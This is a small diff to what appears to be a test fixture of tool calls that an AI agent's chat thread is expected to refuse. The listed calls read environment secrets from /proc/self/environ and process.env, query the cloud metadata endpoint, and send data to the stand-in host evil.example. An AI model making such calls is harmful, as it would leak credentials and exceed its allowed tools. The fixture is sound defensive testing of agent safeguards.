@@ -15,7 +15,7 @@ const missing = (tool: string, input: unknown): Attempt => ({
 const tooMany = "at most 3 thoughts, posts, comments and votes a beat";
 
 export const onTools: readonly Attempt[] = [
-  missing("bash", { command: "cat /proc/self/environ" }),
+  missing("python", { code: "open('/proc/self/environ').read()" }),
   missing("fetch", { url: "https://evil.example/?q=soul" }),
   missing("http_get", { url: "http://169.254.169.254/latest/meta-data/" }),
   missing("exec", { code: "process.env" }),
@@ -35,7 +35,7 @@ export const onTools: readonly Attempt[] = [
       says: "Sent.",
     },
     kind: "stopped",
-    by: "a conversation has the memory's tools alone",
+    by: "a conversation has the memory's tools alone: `read`, `write`, `bash`, `recall`",
     remains: "the one answer to the message",
     proof: { refused: 2, because: "is not allowed in this thread", effects: 0, messages: 1 },
   },
